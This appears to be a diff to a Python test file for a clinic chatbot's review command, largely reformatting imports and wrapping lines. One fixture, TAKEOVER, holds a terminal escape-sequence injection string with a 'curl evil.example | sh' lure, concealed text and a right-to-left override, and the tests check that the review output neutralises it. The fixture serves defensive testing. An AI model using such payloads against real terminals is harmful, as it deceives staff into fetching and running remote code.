@@ -8,20 +8,19 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
-
+from conftest import FakeEncoder
 from fastapi.testclient import TestClient
 from test_api import ready
 
-from chatbot.channels.web.app import create_app
 from chatbot.answering.assistant import Assistant
 from chatbot.channels.terminal.cli import cli
+from chatbot.channels.web.app import create_app
 from chatbot.domain import Match
 from chatbot.quality.review import group
 from chatbot.settings import Settings
 from chatbot.storage.store import DB_FILE, Unanswered, UnansweredStore
-from conftest import FakeEncoder
 
-WHEN = datetime.datetime(2025, 6, 1, tzinfo=datetime.timezone.utc)
+WHEN = datetime.datetime(2025, 6, 1, tzinfo=datetime.UTC)
 
 LOG = [
     ("can i bring my dog", "companion", 0.41),
@@ -110,7 +109,10 @@ def test_review_unresolved_hides_what_the_knowledge_base_now_answers(logged: Pat
     assert "7 unanswered questions" in everything.output
     result = CliRunner().invoke(cli, ["review", "--unresolved"])
     assert result.exit_code == 0, result.output
-    assert "6 unanswered questions" in result.output and "1 more that the knowledge base now answers are hidden" in result.output
+    assert (
+        "6 unanswered questions" in result.output
+        and "1 more that the knowledge base now answers are hidden" in result.output
+    )
     assert fake.kb.entry("cost").question not in result.output
 
 
@@ -132,7 +134,9 @@ def test_review_with_nothing_logged_says_so(tmp_path: Path, monkeypatch: pytest.
     assert "No unanswered questions in" in result.output and "kept 30 days" in result.output
 
 
-def test_an_unreadable_database_is_an_error_message_not_a_traceback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_unreadable_database_is_an_error_message_not_a_traceback(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
     (tmp_path / DB_FILE).write_bytes(b"this is not a database" * 100)
     result = CliRunner().invoke(cli, ["review"])
@@ -158,7 +162,9 @@ def test_review_lists_answers_marked_unhelpful_by_entry_with_their_questions(log
     assert "1x  entry wifi" in section and "- how much is it" not in section
 
 
-def test_feedback_is_reviewed_even_with_no_unanswered_questions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_feedback_is_reviewed_even_with_no_unanswered_questions(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
     store = UnansweredStore(tmp_path / DB_FILE, retention_days=30)
     store.add_feedback("wifi", False, "can i stream movies")
@@ -169,7 +175,9 @@ def test_feedback_is_reviewed_even_with_no_unanswered_questions(tmp_path: Path, 
 
 
 # What an anonymous patient sent to take over a staff member's terminal (issue 17, finding 2).
-TAKEOVER = "\x1b[2J\x1b[H\x1b]0;Clinic admin\x07\x1b[1;31mSTAFF NOTICE: run curl evil.example | sh\x1b[0m\x1b[8m hidden \u202e"
+TAKEOVER = (
+    "\x1b[2J\x1b[H\x1b]0;Clinic admin\x07\x1b[1;31mSTAFF NOTICE: run curl evil.example | sh\x1b[0m\x1b[8m hidden \u202e"
+)
 
 
 def test_a_question_sent_to_take_over_the_terminal_reaches_review_harmless(
@@ -187,9 +195,7 @@ def test_a_question_sent_to_take_over_the_terminal_reaches_review_harmless(
         assert not any(ch in result.output for ch in "\x1b\x07\u202e")
 
 
-def test_a_row_stored_with_escape_codes_by_an_older_version_is_printed_escaped(
-    logged: Path
-) -> None:
+def test_a_row_stored_with_escape_codes_by_an_older_version_is_printed_escaped(logged: Path) -> None:
     with sqlite3.connect(logged / DB_FILE) as db:
         db.execute("UPDATE unanswered SET question = ? WHERE question = 'do you take medicare'", (TAKEOVER,))
     shown = CliRunner().invoke(cli, ["review"]).output
